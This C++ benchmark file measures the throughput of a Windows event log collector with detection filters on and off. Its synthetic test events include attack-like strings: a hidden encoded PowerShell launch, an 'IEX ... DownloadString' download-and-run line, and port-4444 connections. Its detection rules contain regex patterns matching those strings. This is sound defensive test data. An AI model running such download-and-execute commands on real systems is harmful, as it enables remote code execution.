// Events per second per core through the collector's road of one event (record, exceptions,
// filters, batch, SHA-256, gzip, base64, HTTPS upload to a local server that answers at once),
// with detection off and on, beside the cost of compressing the same records alone. The rate is
// per core: events over the CPU time of the collecting thread.
#include <benchmark/benchmark.h>
#include <jansson.h>
#include <spdlog/sinks/null_sink.h>
#include <spdlog/spdlog.h>

#include <cstdio>
#include <map>
#include <memory>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "VarloService/evtlog/EvtLogSvc.h"
#include "bench/CompressionBatches.h"
#include "bench/UploadServer.h"
#include "common/Nvm.h"
#include "common/Sha256.h"
#include "platform/EventLog.h"
#include "platform/Files.h"
#include "platform/TextConv.h"
#include "tests/support/TempMachineRoot.h"

namespace {

constexpr char kTestData[] = VARLO_TESTDATA_DIR "/winevent/";
constexpr char kSecurityProvider[] = "Microsoft-Windows-Security-Auditing";
constexpr char kSysmonProvider[] = "Microsoft-Windows-Sysmon";
constexpr int kGeneratedEvents = 4000;
constexpr int kFilters = 300;
constexpr int kApplyingFilters = 48;  // of the 300
// The filters that apply to the events beside those that cannot, for the series whose per-event
// time shows what the filters that cannot apply cost.
constexpr int kSeriesApplyingFilters = 40;
constexpr int kListEntries = 400;

std::string Event(const std::string& channel, const std::string& provider, int eventId, unsigned number,
                  const std::vector<std::pair<std::string, std::string>>& data) {
  std::string xml = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='" +
                    provider + "' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>" +
                    std::to_string(eventId) +
                    "</EventID><Version>2</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode>"
                    "<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-12-10T09:00:" +
                    std::to_string(10 + number % 50) + ".1234567Z'/><EventRecordID>" + std::to_string(number) +
                    "</EventRecordID><Correlation/><Execution ProcessID='668' ThreadID='" +
                    std::to_string(700 + number % 90) + "'/><Channel>" + channel +
                    "</Channel><Computer>host-01.corp.example</Computer><Security/></System><EventData>";
  for (const auto& entry : data) xml += "<Data Name='" + entry.first + "'>" + entry.second + "</Data>";
  return xml + "</EventData></Event>";
}

// Generated events in the shape of the common Security, Sysmon and PowerShell events.
std::vector<std::string> GeneratedEvents() {
  static const char* const kImages[] = {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
                                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                        "C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe",
                                        "C:\\Program Files\\App\\app.exe"};
  std::vector<std::string> events;
  unsigned seed = 12345;
  auto next = [&] { return seed = seed * 1103515245u + 12345u, (seed >> 8) & 0xFFFF; };
  for (unsigned i = 0; i < kGeneratedEvents; ++i) {
    const std::string user = "user" + std::to_string(next() % 200);
    const std::string ip = "10." + std::to_string(next() % 8) + "." + std::to_string(next() % 256) + "." +
                           std::to_string(next() % 256);
    const std::string image = kImages[next() % 5];
    switch (i % 6) {
      case 0:
        events.push_back(Event("Security", kSecurityProvider, 4624, i,
                               {{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "HOST-01$"},
                                {"TargetUserName", user}, {"TargetDomainName", "CORP"}, {"LogonType", "3"},
                                {"WorkstationName", "WS-" + std::to_string(next() % 90)}, {"IpAddress", ip},
                                {"IpPort", std::to_string(next())}}));
        break;
      case 1:
        events.push_back(Event("Security", kSecurityProvider, 4625, i,
                               {{"TargetUserName", next() % 10 ? user : "admin"}, {"Status", "0xc000006d"},
                                {"FailureReason", "%%2313"}, {"LogonType", "10"}, {"IpAddress", ip}}));
        break;
      case 2:
        events.push_back(Event("Security", kSecurityProvider, 4688, i,
                               {{"SubjectUserName", user}, {"NewProcessId", "0x" + std::to_string(next())},
                                {"NewProcessName", image}, {"TokenElevationType", "%%1936"},
                                {"CommandLine", image + (next() % 20 ? " /service" : " -nop -w hidden -enc SQBFAFgA")},
                                {"ParentProcessName", "C:\\Windows\\System32\\services.exe"}}));
        break;
      case 3:
        events.push_back(Event("Microsoft-Windows-Sysmon/Operational", kSysmonProvider, 1, i,
                               {{"UtcTime", "2026-12-10 09:00:00.123"}, {"ProcessGuid", "{6f8b2c1a-0000-0000-0000-000000000000}"},
                                {"Image", image}, {"CommandLine", "\"" + image + "\" --run " + std::to_string(next())},
                                {"User", "CORP\\" + user}, {"Hashes", "SHA256=" + Sha256Hex(image + user)},
                                {"ParentImage", "C:\\Windows\\explorer.exe"}}));
        break;
      case 4:
        events.push_back(Event("Microsoft-Windows-Sysmon/Operational", kSysmonProvider, 3, i,
                               {{"Image", image}, {"Protocol", "tcp"}, {"SourceIp", ip},
                                {"DestinationIp", "203.0." + std::to_string(next() % 256) + "." + std::to_string(next() % 256)},
                                {"DestinationPort", std::to_string(next() % 2 ? 443 : 4444)}}));
        break;
      default:
        events.push_back(Event("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, i,
                               {{"MessageNumber", "1"}, {"MessageTotal", "1"},
                                {"ScriptBlockText", next() % 15 ? "Get-ChildItem -Path C:\\Users" : "IEX (New-Object Net.WebClient).DownloadString('http://x')"},
                                {"ScriptBlockId", "{" + std::to_string(next()) + "}"}}));
    }
  }
  return events;
}

// The real renderings of the shared test data (single-line files only), when present.
std::vector<std::string> RealEvents() {
  std::vector<std::string> events;
  for (const char* name : {"ec1.xml", "ec2.xml", "ec3.xml", "ec4.xml", "ec3and4.xml", "raw.xml", "original.xml",
                           "application-windows-error-reporting.xml"}) {
    std::string text;
    if (!platform::ReadWholeFile(std::string(kTestData) + name, text)) continue;
    for (std::string& event : platform::SplitRenderedEvents(text)) events.push_back(std::move(event));
  }
  return events;
}

std::string Item(const std::string& element, const char* flag, const char* type, const std::string& text) {
  return R"({"filterElementName":"EventData","childArray":[{"filterElementName":"Data","filterElementAttributeName":"Name","filterElementAttributeValue":")" +
         element + R"(","filterElementSearchFlag":")" + flag + R"(","filterElementSearchType":")" + type +
         R"(","filterElementSearchText":)" + text + "}]}";
}

std::string Filter(int id, int eventId, const char* provider, const std::string& elements, bool response) {
  std::string filter = R"({"filterId":)" + std::to_string(id) + R"(,"filterEvent":{"filterEventKey":")" +
                       std::to_string(eventId) + R"(","filterEventProviderKey":")" + provider +
                       R"("},"filterElementJson":[)" + elements + R"(],"edrFilterElementList":[)";
  if (response) {
    filter += R"({"edrFilterElementId":)" + std::to_string(id) +
              R"(,"isAutoDefense":"1","edrDefenseOrderNo":1,"edrDefenseType":"kill","edrDefenseTypeOrder":"taskkill /f /im $[name]","isUseRecover":"0","edrFilterElementJson":[)" +
              Item("NewProcessName", "el", "regex", R"("(?<name>[^\\\\]+)$")") + "]}";
  }
  return filter + "]}";
}

// Filters in the shape of a server's rule set: `applying` of them on the event ids and providers
// the events carry, with expressions over the cut elements and reference lists of hundreds of
// entries, then `nonApplying` on event ids that no event carries.
std::string Rules(int applying, int nonApplying, std::string& references) {
  std::string filters = "[";
  int id = 0;
  auto add = [&](const std::string& filter) { filters += (id++ ? "," : "") + filter; };
  while (id < applying) {
    const int i = id / 6;
    switch (id % 6) {
      case 0:
        add(Filter(id, 4688, kSecurityProvider,
                   Item("CommandLine", "el", "regex",
                        R"("(?i)-enc(odedcommand)?\\s+[A-Za-z0-9+/=]{)" + std::to_string(4 + i) + R"(,}")"),
                   i == 0));
        break;
      case 1:
        add(Filter(id, 4625, kSecurityProvider,
                   Item("TargetUserName", "eq", "input", "\"admin" + std::string(i ? std::to_string(i) : "") + "\""),
                   false));
        break;
      case 2:
        add(Filter(id, 1, kSysmonProvider, Item("Image", "el", "text", "1"), false));
        break;
      case 3:
        add(Filter(id, 3, kSysmonProvider,
                   Item("DestinationIp", "el", "ip", "2") + "," + Item("DestinationPort", "eq", "input", "\"4444\""),
                   false));
        break;
      case 4:
        add(Filter(id, 4104, "Microsoft-Windows-PowerShell",
                   Item("ScriptBlockText", "el", "regex", R"("(?i)(iex|invoke-expression).*downloadstring")"), false));
        break;
      default:
        add(Filter(id, 4624, kSecurityProvider, Item("TargetUserName", "nel", "text", "1"), false));
    }
  }
  while (id < applying + nonApplying) {
    add(Filter(id, 5000 + id, kSecurityProvider, Item("ObjectName", "el", "regex", R"("(?i)\\\\secret\\\\.*\\.docx$")"),
               false));
  }
  filters += "]";

  std::string texts, ranges;
  for (int i = 0; i < kListEntries; ++i) {
    texts += std::string(i ? "," : "") + R"({"value":")" +
             (i % 10 ? "\\\\tool" + std::to_string(i) + ".exe" : "regex=(?i)\\\\\\\\temp\\\\\\\\.*" + std::to_string(i)) +
             R"(","isRegEx":"0"})";
    ranges += std::string(i ? "," : "") + R"({"value":"198.)" + std::to_string(i % 256) + "." +
              std::to_string(i / 256) + R"(.0/24"})";
  }
  references = R"([{"id":1,"type":"text","name":"tools","list":[)" + texts + R"(]},{"id":2,"type":"ip","name":"bad","list":[)" +
               ranges + "]}]";
  return filters;
}

// The machine, the upload server and the events, made once.
struct cWorld {
  cTempMachineRoot root;
  cTestCertificateAuthority authority;
  std::unique_ptr<cBenchUploadServer> server;
  std::unique_ptr<cAgentInfo> agentInfo;
  std::vector<std::u16string> rendered;
  std::vector<std::string> texts;
  std::string filters, references;

  cWorld() {
    spdlog::set_default_logger(std::make_shared<spdlog::logger>("event", std::make_shared<spdlog::sinks::null_sink_mt>()));
    authority.InstallAsTrusted();
    server = std::make_unique<cBenchUploadServer>(authority);
    NvmDomain(1).SetString(NvmDomain::UploadSys, server->Url());
    agentInfo = std::make_unique<cAgentInfo>();
    texts = RealEvents();
    for (std::string& event : GeneratedEvents()) texts.push_back(std::move(event));
    for (const std::string& text : texts) rendered.push_back(Utf8ToUtf16(text));
    filters = Rules(kApplyingFilters, kFilters - kApplyingFilters, references);
  }
};

cWorld& World() {
  static cWorld world;
  return world;
}

// The world's events handed to the collector in turn.
void RunEventPath(benchmark::State& state, uint32_t detect, uint32_t level, const std::string& filters = {},
                  const std::string& references = {}) {
  cWorld& world = World();
  cEvtLogSvc collector;
  collector.SetChannelMask(0);  // events are handed in directly
  collector.SyslogConf(detect, 0, level);
  if (detect) {
    collector.SetSysFilter(json_loads(filters.c_str(), 0, nullptr), json_loads(references.c_str(), 0, nullptr));
  }
  if (collector.Start(world.agentInfo.get()) != 0) {
    state.SkipWithError("the collector did not start");
    return;
  }
  size_t next = 0;
  int64_t bytes = 0;
  for (auto _ : state) {
    const std::u16string& event = world.rendered[next];
    bytes += static_cast<int64_t>(world.texts[next].size());
    benchmark::DoNotOptimize(collector.OnRx(event.c_str()));
    if (++next == world.rendered.size()) next = 0;
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(bytes);
  collector.Stop();
}

void BM_DetectionOff(benchmark::State& state) { RunEventPath(state, 0, 0); }
void BM_DetectionOnFullUpload(benchmark::State& state) {
  RunEventPath(state, 1, 1, World().filters, World().references);
}
void BM_DetectionOnDetectedOnly(benchmark::State& state) {
  RunEventPath(state, 1, 0, World().filters, World().references);
}

// Detected events only, so that the filters weigh the most in the time of an event.
void BM_FiltersThatCannotApply(benchmark::State& state) {
  std::string references;
  const std::string filters = Rules(kSeriesApplyingFilters, static_cast<int>(state.range(0)), references);
  RunEventPath(state, 1, 0, filters, references);
}

// The same records as the collector makes them, in batches of the uploader's size, gzip alone.
void BM_CompressionAlone(benchmark::State& state) {
  cWorld& world = World();
  cCompressionBatches batches;
  for (const std::string& text : world.texts) {
    json_t* record = json_object();
    json_object_set_new(record, "ceelog", json_string(text.c_str()));
    json_object_set_new(record, "hash", json_string(Sha256Hex(text).c_str()));
    char* compact = json_dumps(record, JSON_COMPACT);
    batches.Add(compact);
    free(compact);
    json_decref(record);
  }
  batches.Run(state);
}

BENCHMARK(BM_DetectionOff)->MinTime(3.0);
BENCHMARK(BM_DetectionOnFullUpload)->MinTime(3.0);
BENCHMARK(BM_DetectionOnDetectedOnly)->MinTime(3.0);
BENCHMARK(BM_CompressionAlone)->MinTime(2.0);
BENCHMARK(BM_FiltersThatCannotApply)->Arg(30)->Arg(300)->Arg(3000)->Arg(30000)->MinTime(2.0);

// The console table, then each event-path figure as a ratio to compression alone, and the time of
// an event beside filters that cannot apply to it as a ratio to the time beside the fewest.
class cRatioReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    ConsoleReporter::ReportRuns(runs);
    for (const Run& run : runs) {
      auto rate = run.counters.find("items_per_second");
      if (rate == run.counters.end()) continue;
      if (run.run_name.function_name == "BM_FiltersThatCannotApply") {
        m_Series.emplace_back(run.run_name.args, rate->second.value);
      } else {
        m_Rates[run.benchmark_name()] = rate->second.value;
      }
    }
  }
  void Finalize() override {
    ConsoleReporter::Finalize();
    double compression = 0;
    for (const auto& entry : m_Rates) {
      if (entry.first.rfind("BM_CompressionAlone", 0) == 0) compression = entry.second;
    }
    std::printf("\nevents per second per core (CPU time of the collecting thread)\n");
    for (const auto& entry : m_Rates) {
      std::printf("  %-45s %12.0f", entry.first.c_str(), entry.second);
      if (compression > 0) std::printf("   %6.3f of compression alone", entry.second / compression);
      std::printf("\n");
    }
    if (m_Series.empty()) return;
    std::printf("\ndetected events only, %d filters that apply beside filters that cannot (CPU time per event)\n",
                kSeriesApplyingFilters);
    const double first = m_Series.front().second;
    for (const auto& [count, rate] : m_Series) {
      std::printf("  %6s that cannot apply %10.2f us   %6.3f of the time beside %s\n", count.c_str(), 1e6 / rate,
                  first / rate, m_Series.front().first.c_str());
    }
  }

 private:
  std::map<std::string, double> m_Rates;
  std::vector<std::pair<std::string, double>> m_Series;  // filters that cannot apply, events per second
};

}  // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  std::printf("%zu events: %zu real renderings, %d generated; detection rule set of %d filters\n", World().texts.size(),
              World().texts.size() - kGeneratedEvents, kGeneratedEvents, kFilters);
  cRatioReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();
  return 0;
}
